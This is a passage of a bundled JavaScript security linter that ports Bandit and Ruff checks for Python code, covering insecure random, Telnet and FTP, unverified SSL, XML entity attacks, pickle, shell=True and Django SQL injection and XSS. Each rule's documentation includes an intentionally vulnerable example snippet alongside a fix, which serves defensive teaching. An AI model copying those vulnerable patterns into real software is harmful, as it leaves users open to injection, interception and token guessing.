        why: '`random` is a Mersenne Twister: fast and reproducible, and predictable from a few hundred outputs. Tokens, passwords, salts or keys made with it can be guessed.',
        example: 'import random\n\ntoken = "".join(random.choice(ALPHABET) for _ in range(32))',
        fix: 'Use the `secrets` module (`secrets.token_hex`, `secrets.choice`) or `random.SystemRandom`. For simulations and tests, `random` is fine and the alert can be dismissed.',
        fixed: 'import secrets\n\ntoken = "".join(secrets.choice(ALPHABET) for _ in range(32))',
        says: 'uses a pseudo-random generator that is predictable; use `secrets` for security purposes',
    },
    {
        id: 'telnet-usage',
        name: 'TelnetUsage',
        bandit: 'B312',
        ruff: 'S312',
        severity: 'HIGH',
        cwe: [319],
        category: 'network',
        functions: [],
        modules: ['telnetlib'],
        short: 'telnetlib sends everything, credentials included, in clear text',
        why: 'Telnet has no encryption: passwords and data can be read and altered by anyone on the path.',
        example: 'import telnetlib\n\nconn = telnetlib.Telnet(host)',
        fix: 'Use SSH (for example `paramiko` or `asyncssh`).',
        fixed: 'import paramiko\n\nconn = paramiko.SSHClient()\nconn.load_system_host_keys()\nconn.connect(host)',
        says: 'uses Telnet, which sends data and credentials unencrypted',
    },
    ...xmlEntries(),
    {
        id: 'ftp-usage',
        name: 'FtpUsage',
        bandit: 'B321',
        ruff: 'S321',
        severity: 'HIGH',
        cwe: [319],
        category: 'network',
        functions: [],
        modules: ['ftplib'],
        short: 'ftplib sends credentials and data in clear text',
        why: 'Plain FTP has no encryption: logins and files can be read and altered on the network.',
        example: 'import ftplib\n\nftp = ftplib.FTP(host)\nftp.login(user, password)',
        fix: 'Use SFTP or SCP over SSH; if FTP is required, `ftplib.FTP_TLS` with `prot_p()`.',
        fixed: 'import paramiko\n\nssh = paramiko.SSHClient()\nssh.load_system_host_keys()\nssh.connect(host, username=user, password=password)\nsftp = ssh.open_sftp()',
        says: 'uses FTP, which sends data and credentials unencrypted',
    },
    {
        id: 'ssl-unverified-context',
        name: 'SslUnverifiedContext',
        bandit: 'B323',
        ruff: 'S323',
        severity: 'MEDIUM',
        cwe: [295],
        category: 'tls',
        functions: ['ssl._create_unverified_context'],
        short: 'an SSL context that checks neither certificates nor host names',
        why: 'A connection made with this context accepts any certificate, so anyone on the path can impersonate the server.',
        example: 'import ssl, urllib.request\n\nctx = ssl._create_unverified_context()\nurllib.request.urlopen(url, context=ctx)',
        fix: 'Use `ssl.create_default_context()`; add a private CA with `cafile=` rather than disabling verification.',
        fixed: 'import ssl, urllib.request\n\nctx = ssl.create_default_context()\nurllib.request.urlopen(url, context=ctx)',
        says: 'creates an SSL context that does not verify certificates or host names',
    },
];
function xmlEntries() {
    // One row per parser module; `defused` is the defusedxml function the fixed example calls.
    const table = [
        {
            id: 'xml-etree-celementtree-parse',
            name: 'XmlCElementTreeParse',
            bandit: 'B313',
            ruff: 'S313',
            module: 'xml.etree.cElementTree',
            functions: (0, common_1.qualify)('xml.etree.cElementTree', XML_PARSE),
            defused: 'defusedxml.ElementTree.parse',
        },
        {
            id: 'xml-etree-elementtree-parse',
            name: 'XmlElementTreeParse',
            bandit: 'B314',
            ruff: 'S314',
            module: 'xml.etree.ElementTree',
            functions: (0, common_1.qualify)('xml.etree.ElementTree', XML_PARSE),
            defused: 'defusedxml.ElementTree.parse',
        },
        {
            id: 'xml-sax-expatreader-parse',
            name: 'XmlExpatReaderParse',
            bandit: 'B315',
            ruff: 'S315',
            module: 'xml.sax.expatreader',
            functions: ['xml.sax.expatreader.create_parser'],
            defused: 'defusedxml.expatreader.create_parser',
        },
        {
            id: 'xml-dom-expatbuilder-parse',
            name: 'XmlExpatBuilderParse',
            bandit: 'B316',
            ruff: 'S316',
            module: 'xml.dom.expatbuilder',
            functions: (0, common_1.qualify)('xml.dom.expatbuilder', 'parse parseString'),
            defused: 'defusedxml.expatbuilder.parse',
        },
        {
            id: 'xml-sax-parse',
            name: 'XmlSaxParse',
            bandit: 'B317',
            ruff: 'S317',
            module: 'xml.sax',
            functions: (0, common_1.qualify)('xml.sax', 'parse parseString make_parser'),
            defused: 'defusedxml.sax.parse',
        },
        {
            id: 'xml-dom-minidom-parse',
            name: 'XmlMinidomParse',
            bandit: 'B318',
            ruff: 'S318',
            module: 'xml.dom.minidom',
            functions: (0, common_1.qualify)('xml.dom.minidom', 'parse parseString'),
            defused: 'defusedxml.minidom.parse',
        },
        {
            id: 'xml-dom-pulldom-parse',
            name: 'XmlPulldomParse',
            bandit: 'B319',
            ruff: 'S319',
            module: 'xml.dom.pulldom',
            functions: (0, common_1.qualify)('xml.dom.pulldom', 'parse parseString'),
            defused: 'defusedxml.pulldom.parse',
        },
        {
            id: 'lxml-etree-parse',
            name: 'XmlLxmlParse',
            bandit: 'B320',
            module: 'lxml.etree',
            functions: (0, common_1.qualify)('lxml.etree', 'parse fromstring RestrictedElement GlobalParserTLS getDefaultParser check_docinfo'),
            defused: 'defusedxml.ElementTree.parse',
        },
    ];
    return table.map(({ id, name, bandit, ruff, module, functions, defused }) => ({
        id,
        name,
        bandit,
        ruff,
        severity: 'MEDIUM',
        cwe: [20],
        category: 'xml',
        functions,
        short: `${module} parses XML without protection against entity attacks`,
        why: `The standard XML parsers (here \`${module}\`) expand entities, so a small document can grow into gigabytes in memory ("billion laughs"), and some parsers also fetch external entities or DTDs. Parsing XML from outside the program with them is a denial-of-service risk.`,
        example: `import ${module}\n\ndoc = ${module}.${functions[0].split('.').pop()}(uploaded)`,
        fix: 'Parse untrusted XML with `defusedxml` (`defusedxml.ElementTree.parse`, `defusedxml.minidom.parseString`, ...), which refuses the dangerous constructs.',
        fixed: `import ${defused.slice(0, defused.lastIndexOf('.'))}\n\ndoc = ${defused}(uploaded)`,
        notReported: ['Calls through `defusedxml`.', ...(ruff ? [] : ['Ruff 0.17 no longer has this check (lxml is safe by default in recent versions).'])],
        says: `parses XML with \`${module}\`, which is open to entity-expansion attacks; use defusedxml for untrusted data`,
    }));
}
/** The spec every entry's rule has: its metadata and docs from the table row. */
function entrySpec(entry) {
    return {
        id: entry.id,
        name: entry.name,
        bandit: entry.bandit,
        ruff: entry.ruff,
        severity: entry.severity,
        confidence: 'HIGH',
        category: entry.category,
        cwe: entry.cwe,
        short: entry.short,
        full: `${entry.why} Reported for calls to ${entry.modules
            ? `any function of \`${entry.modules.join('`, `')}\``
            : entry.functions
                .slice(0, 4)
                .map((f) => `\`${f}\``)
                .join(', ') + (entry.functions.length > 4 ? ' and related functions' : '')}.`,
        title: entry.short.charAt(0).toUpperCase() + entry.short.slice(1),
        why: entry.why,
        example: entry.example,
        fix: entry.fix,
        fixed: entry.fixed,
        notReported: [
            "Calls whose function does not resolve surely to one of the listed names through the file's imports (a name rebound, or imported differently in different places).",
            ...(entry.notReported ?? []),
        ],
    };
}
function entryRule(entry) {
    const spec = entrySpec(entry);
    const modules = entry.modules;
    if (!modules)
        return (0, common_1.callRule)({ ...spec, functions: entry.functions, check: entry.check, message: (call) => `${(0, common_1.callName)(call)} ${entry.says}` });
    // Module-wide entries: every call into the module.
    return (0, common_1.securityRule)({
        ...spec,
        uses: [calls_1.calls],
        create(context) {
            return {
                end() {
                    for (const call of context.analysis(calls_1.calls).calls) {
                        const q = call.assumedName;
                        if (q && modules.some((m) => q.startsWith(`${m}.`)))
                            context.report(call.callee, `${(0, common_1.callName)(call)} ${entry.says}`);
                    }
                },
            };
        },
    });
}
/** B301-B323: one rule per blacklist entry. */
exports.BLACKLIST_CALL_RULES = ENTRIES.map(entryRule);


/***/ }),

/***/ 1306:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.BLACKLIST_IMPORT_RULES = void 0;
const define_1 = __nccwpck_require__(5544);
const common_1 = __nccwpck_require__(8925);
const XML_WHY = 'The standard XML parsers expand entities and may fetch external resources, which lets a hostile document exhaust memory or reach the network. The import itself is harmless; it marks code to check for parsing of untrusted XML.';
const XML_FIX = 'Parse untrusted XML with `defusedxml`, which offers the same interfaces with the dangerous features refused.';
const ENTRIES = [
    {
        bandit: 'B401',
        ruff: 'S401',
        id: 'telnetlib-import',
        name: 'TelnetlibImport',
        severity: 'HIGH',
        modules: ['telnetlib'],
        cwe: [319],
        category: 'network',
        what: 'telnetlib',
        why: 'Telnet sends credentials and data unencrypted.',
        fix: 'Use SSH (`paramiko`, `asyncssh`).',
        fixed: 'import paramiko',
    },
    {
        bandit: 'B402',
        ruff: 'S402',
        id: 'ftplib-import',
        name: 'FtplibImport',
        severity: 'HIGH',
        modules: ['ftplib'],
        cwe: [319],
        category: 'network',
        what: 'ftplib',
        why: 'Plain FTP sends credentials and files unencrypted.',
        fix: 'Use SFTP/SCP, or `ftplib.FTP_TLS` with a protected data channel.',
        fixed: 'import paramiko',
    },
    {
        bandit: 'B403',
        ruff: 'S403',
        id: 'pickle-import',
        name: 'PickleImport',
        severity: 'LOW',
        modules: ['pickle', 'cPickle', 'dill', 'shelve'],
        cwe: [502],
        category: 'deserialization',
        what: 'pickle, cPickle, dill or shelve',
        why: 'Loading a pickle can run arbitrary code; the module is a risk wherever its input could come from outside the program.',
        fix: 'Prefer `json` or another data-only format for anything that crosses a trust boundary.',
        fixed: 'import json',
    },
    {
        bandit: 'B404',
        ruff: 'S404',
        id: 'subprocess-import',
        name: 'SubprocessImport',
        severity: 'LOW',
        modules: ['subprocess'],
        cwe: [78],
        category: 'injection',
        what: 'subprocess',
        why: 'Starting processes is where command injection happens; the import marks code whose commands should be reviewed.',
        fix: 'Pass commands as argument lists, never with `shell=True` on built strings; dismiss the alert once reviewed.',
        fixed: 'import shutil',
    },
    {
        bandit: 'B405',
        ruff: 'S405',
        id: 'xml-etree-import',
        name: 'XmlEtreeImport',
        severity: 'LOW',
        modules: ['xml.etree.cElementTree', 'xml.etree.ElementTree'],
        cwe: [20],
        category: 'xml',
        what: 'xml.etree',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.ElementTree',
    },
    {
        bandit: 'B406',
        ruff: 'S406',
        id: 'xml-sax-import',
        name: 'XmlSaxImport',
        severity: 'LOW',
        modules: ['xml.sax'],
        cwe: [20],
        category: 'xml',
        what: 'xml.sax',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.sax',
    },
    {
        bandit: 'B407',
        ruff: 'S407',
        id: 'xml-expat-import',
        name: 'XmlExpatImport',
        severity: 'LOW',
        modules: ['xml.dom.expatbuilder'],
        cwe: [20],
        category: 'xml',
        what: 'xml.dom.expatbuilder',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.expatbuilder',
    },
    {
        bandit: 'B408',
        ruff: 'S408',
        id: 'xml-minidom-import',
        name: 'XmlMinidomImport',
        severity: 'LOW',
        modules: ['xml.dom.minidom'],
        cwe: [20],
        category: 'xml',
        what: 'xml.dom.minidom',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.minidom',
    },
    {
        bandit: 'B409',
        ruff: 'S409',
        id: 'xml-pulldom-import',
        name: 'XmlPulldomImport',
        severity: 'LOW',
        modules: ['xml.dom.pulldom'],
        cwe: [20],
        category: 'xml',
        what: 'xml.dom.pulldom',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.pulldom',
    },
    {
        bandit: 'B410',
        ruff: 'S410',
        id: 'lxml-import',
        name: 'LxmlImport',
        severity: 'LOW',
        modules: ['lxml'],
        cwe: [20],
        category: 'xml',
        what: 'lxml',
        why: XML_WHY,
        fix: XML_FIX,
        fixed: 'import defusedxml.ElementTree',
    },
    {
        bandit: 'B411',
        ruff: 'S411',
        id: 'xmlrpc-import',
        name: 'XmlrpcImport',
        severity: 'HIGH',
        modules: ['xmlrpc', 'xmlrpclib'],
        submodules: true,
        cwe: [20],
        category: 'xml',
        what: 'xmlrpc',
        why: 'XML-RPC parses XML from the network with the standard parsers, open to entity-expansion attacks.',
        fix: 'Call `defusedxml.xmlrpc.monkey_patch()` before use, or use another RPC format.',
        fixed: 'import grpc',
    },
    {
        bandit: 'B412',
        ruff: 'S412',
        id: 'httpoxy-import',
        name: 'HttpoxyImport',
        severity: 'HIGH',
        modules: ['wsgiref.handlers.CGIHandler', 'twisted.web.twcgi.CGIScript', 'twisted.web.twcgi.CGIDirectory'],
        cwe: [284],
        category: 'network',
        what: 'a CGI handler (wsgiref CGIHandler, twisted CGIScript)',
        why: "CGI handlers put the request's `Proxy:` header into the `HTTP_PROXY` environment variable, so a client can redirect the server's outgoing HTTP requests (httpoxy).",
        fix: 'Do not run under CGI; if you must, strip the `Proxy` header before the handler sees it.',
        fixed: 'import waitress',
    },
    {
        bandit: 'B413',
        ruff: 'S413',
        id: 'pycrypto-import',
        name: 'PycryptoImport',
        severity: 'HIGH',
        modules: ['Crypto.Cipher', 'Crypto.Hash', 'Crypto.IO', 'Crypto.Protocol', 'Crypto.PublicKey', 'Crypto.Random', 'Crypto.Signature', 'Crypto.Util'],
        cwe: [327],
        category: 'cryptography',
        what: 'pyCrypto',
        why: 'pyCrypto is unmaintained and has known vulnerabilities.',
        fix: 'Use `cryptography`, or `pycryptodome` (which installs as `Cryptodome` or as a drop-in `Crypto`).',
        fixed: 'from cryptography.hazmat.primitives.ciphers.aead import AESGCM',
    },
    {
        bandit: 'B415',
        ruff: 'S415',
        id: 'pyghmi-import',
        name: 'PyghmiImport',
        severity: 'HIGH',
        modules: ['pyghmi'],
        cwe: [319],
        category: 'network',
        what: 'pyghmi (IPMI)',
        why: 'IPMI is a weak protocol: its authentication can be attacked offline and it is often unencrypted.',
        fix: 'Manage hardware over an encrypted protocol (Redfish over HTTPS, SSH) and keep IPMI on an isolated network.',
        fixed: 'import redfish',
    },
];
function matches(name, entry) {
    return entry.modules.some((m) => name === m || (entry.submodules === true && name.startsWith(`${m}.`)));
}
/** `(dotted name, node to report)` pairs for the names an import statement brings in. */
function importedNames(node) {
    const out = [];
    const nameOf = (n) => (n.type === 'aliased_import' ? n.childForFieldName('name') : n);
    if (node.type === 'import_statement') {
        for (const child of node.childrenForFieldName('name')) {
            const name = child && nameOf(child);
            if (name && name.type === 'dotted_name')
                out.push([name.text.replace(/\s+/g, ''), child]);
        }
    }
    else {
        const module = node.childForFieldName('module_name');
        if (!module || module.type !== 'dotted_name')
            return out; // relative import
        const base = module.text.replace(/\s+/g, '');
        out.push([base, module]);
        for (const child of node.childrenForFieldName('name')) {
            const name = child && nameOf(child);
            if (name && name.type === 'dotted_name')
                out.push([`${base}.${name.text.replace(/\s+/g, '')}`, child]);
        }
    }
    return out;
}
function importRule(entry) {
    const spec = {
        id: entry.id,
        name: entry.name,
        bandit: entry.bandit,
        ruff: entry.ruff,
        severity: entry.severity,
        confidence: 'HIGH',
        category: entry.category,
        cwe: entry.cwe,
        short: `import of ${entry.what}`,
        full: `The module imports ${entry.what}. ${entry.why}`,
        title: `Import of ${entry.what}`,
        why: `${entry.why} Bandit reports the import so that the code using it gets a review.`,
        example: `import ${entry.modules[0]}`,
        fix: entry.fix,
        fixed: entry.fixed,
        notReported: [
            'Relative imports (`from . import x`): the package is not known.',
            `Modules other than ${entry.modules.map((m) => `\`${m}\``).join(', ')}${entry.submodules ? ' and their submodules' : ' (submodules such as `' + entry.modules[0] + '.x` are other modules)'}.`,
        ],
        note: 'Off by default: an import is a reason to review the code that uses it, not a problem by itself, and the call rules report the dangerous uses. Turn it on with `select` (its id, its alias, or `security`).',
    };
    return (0, define_1.defineRule)({
        // An import marks code for review; the call rules report the dangerous uses. Opt-in, as in Ruff.
        meta: { ...(0, common_1.securityMeta)(spec), enabledByDefault: false },
        docs: (0, common_1.securityDocs)(spec),
        create(context) {
            const check = (node) => {
                const found = importedNames(node).filter(([name]) => matches(name, entry));
                // One finding per statement for `from m import a, b`: report the module once.
                const seen = new Set();
                for (const [name, at] of found) {
                    if (seen.has(at.startIndex))
                        continue;
                    seen.add(at.startIndex);
                    context.report(at, `\`${name}\` is imported: ${entry.why}`);
                    if (node.type === 'import_from_statement')
                        break;
                }
            };
            return { import_statement: check, import_from_statement: check };
        },
    });
}
/** B401-B415: one rule per blacklisted import. */
exports.BLACKLIST_IMPORT_RULES = ENTRIES.map(importRule);


/***/ }),

/***/ 2510:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.BROAD_EXCEPT_FIX = void 0;
exports.broadExceptOnly = broadExceptOnly;
const calls_1 = __nccwpck_require__(4463);
const literals_1 = __nccwpck_require__(8436);
/** The fix both rules give. */
exports.BROAD_EXCEPT_FIX = 'Catch the specific exceptions you expect, and log the others (`logger.exception(...)`) or let them propagate. Where ignoring really is right, `contextlib.suppress(SpecificError)` says so explicitly.';
/** The exception types of an except clause (none for a bare `except:`). */
function exceptTypes(clause) {
    const out = [];
    for (const child of clause.namedChildren) {
        if (!child || child.type === 'block' || child.type === 'comment')
            continue;
        const expr = child.type === 'as_pattern' ? child.namedChildren[0] : child;
        if (!expr)
            continue;
        const inner = (0, literals_1.unparenthesize)(expr);
        if (inner.type === 'tuple') {
            for (const item of inner.namedChildren)
                if (item && item.type !== 'comment')
                    out.push(item);
        }
        else
            out.push(inner);
    }
    return out;
}
/** `uses` and `create` of the rule reporting broad handlers whose only statement is `kind`. */
function broadExceptOnly(kind) {
    return {
        uses: [calls_1.calls],
        create(context) {
            const clauses = [];
            const visit = (node) => {
                clauses.push(node);
            };
            return {
                except_clause: visit,
                except_group_clause: visit,
                end() {
                    const model = context.analysis(calls_1.calls);
                    for (const clause of clauses) {
                        const body = clause.namedChildren.find((c) => c?.type === 'block');
                        const statements = body ? body.namedChildren.filter((c) => c && c.type !== 'comment') : [];
                        if (statements.length !== 1 || statements[0].type !== `${kind}_statement`)
                            continue;
                        const types = exceptTypes(clause);
                        const broad = types.length === 0 ||
                            types.some((t) => {
                                const q = model.resolveAssumed(t);
                                return (q === 'builtins.Exception' || q === 'builtins.BaseException' || (q === undefined && (t.text === 'Exception' || t.text === 'BaseException')));
                            });
                        if (!broad)
                            continue;
                        context.report(clause.child(0) ?? clause, `\`except\` that only \`${kind}\`es silently ignores every error; catch specific exceptions or log them`);
                    }
                },
            };
        },
    };
}


/***/ }),

/***/ 6587:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.callWithShellTrue = void 0;
/** Bandit B604 / Ruff S604: `shell=True` passed to a function outside `subprocess`. */
const calls_1 = __nccwpck_require__(4463);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
const commands_1 = __nccwpck_require__(2962);
exports.callWithShellTrue = (0, common_1.securityRule)({
    id: 'call-with-shell-true',
    name: 'CallWithShellTrue',
    bandit: 'B604',
    ruff: 'S604',
    severity: 'MEDIUM',
    confidence: 'LOW',
    category: 'injection',
    cwe: [78],
    short: 'shell=True passed to a function outside subprocess',
    full: 'A function that is not one of the subprocess functions is called with shell=True; it probably runs its command through a shell, open to shell injection.',
    title: '`shell=True` passed to some other function',
    why: 'Wrappers around `subprocess` often forward `shell=True`. The command then goes through `/bin/sh`, with the same injection risk as calling `subprocess` with a shell directly.',
    example: 'run_command(f"convert {name} out.png", shell=True)',
    fix: 'Pass the command as a list and drop `shell=True`.',
    fixed: 'run_command(["convert", name, "out.png"])',
    notReported: ['`subprocess` functions: those are B602/B603.', '`shell=` values that are not a true constant.'],
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                const skip = new Set(apis_1.SUBPROCESS_FUNCTIONS);
                for (const call of context.analysis(calls_1.calls).calls) {
                    if (call.assumedName && skip.has(call.assumedName))
                        continue;
                    if ((0, commands_1.trueShell)(call))
                        context.report(call.callee, `${(0, common_1.callName)(call)} is called with \`shell=True\`: the command may go through a shell`);
                }
            },
        };
    },
});


/***/ }),

/***/ 2962:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isLiteralCommand = isLiteralCommand;
exports.trueShell = trueShell;
exports.subprocessShellCalls = subprocessShellCalls;
exports.shellText = shellText;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const apis_1 = __nccwpck_require__(1813);
/** True when the command cannot change at run time: literal strings, or a list/tuple of them. */
function isLiteralCommand(command) {
    const expr = (0, literals_1.unparenthesize)(command);
    if ((0, literals_1.isPlainStringLiteral)(expr, { allowBytes: true }))
        return true;
    if (expr.type === 'list' || expr.type === 'tuple') {
        return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, literals_1.isPlainStringLiteral)(item, { allowBytes: true }));
    }
    return false;
}
/** The value of the call's `shell=` argument when it is a constant known to be true. */
function trueShell(call) {
    const shell = (0, arguments_1.keywordValue)(call.node, 'shell');
    return shell && (0, literals_1.truthiness)(shell) === true ? shell : undefined;
}
/** The calls to `subprocess` functions (surely resolved) with a true `shell=` and a visible command. */
function subprocessShellCalls(model) {
    const out = [];
    for (const call of model.callsTo(apis_1.SUBPROCESS_FUNCTIONS)) {
        const shell = trueShell(call);
        if (!shell)
            continue;
        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
        if (command)
            out.push({ call, shell, command });
    }
    return out;
}
/** `shell=True` as written, or a generic wording when the value is long. */
function shellText(value) {
    const text = value.text.replace(/\s+/g, ' ');
    return text.length <= 20 ? `\`shell=${text}\`` : 'a true `shell=` value';
}


/***/ }),

/***/ 8925:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.securityMeta = securityMeta;
exports.securityDocs = securityDocs;
exports.securityRule = securityRule;
exports.callName = callName;
exports.callRule = callRule;
exports.qualify = qualify;
exports.importsModule = importsModule;
const calls_1 = __nccwpck_require__(4463);
const define_1 = __nccwpck_require__(5544);
const severity_1 = __nccwpck_require__(2640);
/** The metadata of a security rule: severity and precision from Bandit's grading. */
function securityMeta(spec) {
    return {
        id: spec.id,
        name: spec.name,
        kind: 'security',
        shortDescription: spec.short,
        fullDescription: spec.full,
        category: spec.category,
        aliases: spec.ruff ? [spec.bandit, spec.ruff] : [spec.bandit],
        precision: severity_1.PRECISION_FOR_CONFIDENCE[spec.confidence],
        securitySeverity: severity_1.SECURITY_SEVERITY[spec.severity],
        cwe: spec.cwe,
    };
}
/** The documentation of a security rule: the spec's sections, then how Bandit grades it. */
function securityDocs(spec) {
    const grading = '## Grading\n\n' +
        `Bandit grades this check ${spec.severity.toLowerCase()} severity, ${spec.confidence.toLowerCase()} confidence: ` +
        `security-severity ${severity_1.SECURITY_SEVERITY[spec.severity].toFixed(1)}, precision \`${severity_1.PRECISION_FOR_CONFIDENCE[spec.confidence]}\` ` +
        `(see docs/severity.md). Bandit id \`${spec.bandit}\`${spec.ruff ? `, Ruff code \`${spec.ruff}\`` : ' (Ruff has no equivalent)'}.`;
    return {
        title: spec.title,
        why: spec.why,
        example: spec.example,
        fix: spec.fix,
        fixed: spec.fixed,
        notReported: spec.notReported,
        more: [spec.note, grading].filter(Boolean).join('\n\n'),
    };
}
/** A security rule with its own visitor: the spec's metadata and docs, `defineRule` for the rest. */
function securityRule(spec) {
    return (0, define_1.defineRule)({ meta: securityMeta(spec), docs: securityDocs(spec), uses: spec.uses, create: spec.create });
}
/** The call as written, and what it resolves to when that differs: `` `sp.run` (`subprocess.run`) ``. */
function callName(call) {
    const written = call.writtenName;
    const resolved = call.assumedName;
    if (!written || written === resolved)
        return `\`${resolved ?? call.callee.text}\``;
    return resolved ? `\`${written}\` (\`${resolved}\`)` : `\`${written}\``;
}
/** A rule reporting calls to a fixed set of functions, resolved through the file's imports. */
function callRule(spec) {
    return securityRule({
        ...spec,
        uses: [calls_1.calls],
        create(context) {
            return {
                end() {
                    const model = context.analysis(calls_1.calls);
                    for (const call of model.callsToAssumed(spec.functions)) {
                        const verdict = spec.check ? spec.check(call, model) : true;
                        if (!verdict)
                            continue;
                        context.report(verdict === true ? call.callee : verdict, spec.message(call));
                    }
                },
            };
        },
    });
}
/** Every qualified name `prefix.name` for the given names. */
function qualify(prefix, names) {
    return names
        .split(/\s+/)
        .filter(Boolean)
        .map((n) => `${prefix}.${n}`);
}
/** Tracks whether a file imports `module` (or a submodule, or a name from it), as Bandit's "module imported" tests. */
function importsModule(module) {
    let seen = false;
    const pattern = new RegExp(`^${module.replace(/\./g, '\\.')}(\\.|$)`);
    const check = (node) => {
        if (node.type === 'import_statement') {
            for (const child of node.childrenForFieldName('name')) {
                const name = child?.type === 'aliased_import' ? child.childForFieldName('name') : child;
                if (name && pattern.test(name.text))
                    seen = true;
            }
        }
        else {
            const from = node.childForFieldName('module_name');
            if (from && from.type === 'dotted_name' && pattern.test(from.text))
                seen = true;
        }
    };
    return { visitor: { import_statement: check, import_from_statement: check }, seen: () => seen };
}


/***/ }),

/***/ 3588:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.djangoExtra = void 0;
const calls_1 = __nccwpck_require__(4463);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
/** A literal string, or a list/tuple/dict made only of literal strings. */
function allLiteral(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    if ((0, literals_1.stringLiteralValue)(expr) !== undefined)
        return true;
    if (expr.type === 'list' || expr.type === 'tuple' || expr.type === 'set') {
        return expr.namedChildren.every((c) => !c || c.type === 'comment' || allLiteral(c));
    }
    if (expr.type === 'dictionary') {
        return expr.namedChildren.every((c) => {
            if (!c || c.type === 'comment')
                return true;
            if (c.type !== 'pair')
                return false;
            const value = c.childForFieldName('value');
            return !!value && allLiteral(value);
        });
    }
    return false;
}
exports.djangoExtra = (0, common_1.securityRule)({
    id: 'django-extra',
    name: 'DjangoExtra',
    bandit: 'B610',
    ruff: 'S610',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [89],
    short: 'Django QuerySet.extra() with SQL that is not a literal',
    full: 'QuerySet.extra() inserts its select, where, tables and order_by strings into the SQL as they are. Given anything other than literals, it is open to SQL injection.',
    title: 'Django `extra()` with SQL built at run time',
    why: '`extra()` pastes its arguments into the generated SQL unescaped. A value from outside the program in `where=` or `select=` can rewrite the query.',
    example: 'from django.db import models\n\n\nclass Entry(models.Model):\n    headline = models.CharField(max_length=200)\n\n\nentries = Entry.objects.extra(where=[f"headline = \'{headline}\'"])',
    fix: 'Use the ORM (`filter`, `annotate`, `F`, `Func` expressions); if raw SQL is needed, keep it literal and pass values through `params=`.',
    fixed: 'from django.db import models\n\n\nclass Entry(models.Model):\n    headline = models.CharField(max_length=200)\n\n\nentries = Entry.objects.filter(headline=headline)',
    notReported: [
        '`extra()` arguments that are literal strings, or lists, tuples and dicts of literal strings.',
        '`params=` and `select_params=` (they are passed as parameters).',
        'Files that do not import from `django`.',
    ],
    uses: [calls_1.calls],
    create(context) {
        let importsDjango = false;
        const imported = (node) => {
            if (/\bdjango\b/.test(node.text))
                importsDjango = true;
        };
        return {
            import_statement: imported,
            import_from_statement: imported,
            end() {
                if (!importsDjango)
                    return;
                for (const call of context.analysis(calls_1.calls).calls) {
                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extra' || !call.args)
                        continue;
                    const args = call.args.namedChildren.filter((c) => !!c && c.type !== 'comment');
                    const risky = args.some((a) => {
                        if (a.type === 'keyword_argument') {
                            const name = a.childForFieldName('name')?.text;
                            if (name === 'params' || name === 'select_params')
                                return false;
                            const value = a.childForFieldName('value');
                            return !!value && !allLiteral(value);
                        }
                        return a.type !== 'list_splat' && a.type !== 'dictionary_splat' && !allLiteral(a);
                    });
                    if (risky)
                        context.report(call.callee, '`extra()` with SQL that is not a literal is open to SQL injection');
                }
            },
        };
    },
});


/***/ }),

/***/ 2223:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.djangoMarkSafe = void 0;
/** Bandit B703: Django's `mark_safe` (or `SafeString`) applied to a value that is not a literal. */
const common_1 = __nccwpck_require__(8925);
const markup_1 = __nccwpck_require__(655);
exports.djangoMarkSafe = (0, common_1.callRule)({
    id: 'django-mark-safe',
    name: 'DjangoMarkSafe',
    bandit: 'B703',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'xss',
    cwe: [80],
    functions: ['django.utils.safestring.mark_safe', 'django.utils.safestring.SafeString', 'django.utils.safestring.SafeText', 'django.utils.html.mark_safe'],
    check: markup_1.marksNonLiteral,
    message: (call) => `${(0, common_1.callName)(call)} applied to a value that is not a literal: anything in it reaches the page unescaped`,
    short: 'Django mark_safe/SafeString applied to a value that is not a literal',
    full: 'mark_safe (or SafeString) marks its argument as safe HTML; when the argument is built at run time, user input in it reaches the page unescaped (XSS).',
    title: 'Django `mark_safe` on a value built at run time',
    why: "Values marked safe skip Django's autoescaping. If any part of the string comes from a user, its markup and scripts run in the page.",
    example: 'from django.utils.safestring import mark_safe\n\nreturn mark_safe("<b>%s</b>" % comment.text)',
    fix: 'Use `django.utils.html.format_html("<b>{}</b>", comment.text)`, which escapes the arguments, and keep `mark_safe` for literals.',
    fixed: 'from django.utils.html import format_html\n\nreturn format_html("<b>{}</b>", comment.text)',
    notReported: [
        'Literal strings: they contain nothing from outside the program.',
        'Ruff has no separate code for this check: its `S308` (`django-mark-safe-call`) covers every `mark_safe` call.',
    ],
});


/***/ }),

/***/ 829:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.djangoRawSql = void 0;
/** Bandit B611 / Ruff S611: Django's `RawSQL` given SQL that is not a literal. */
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
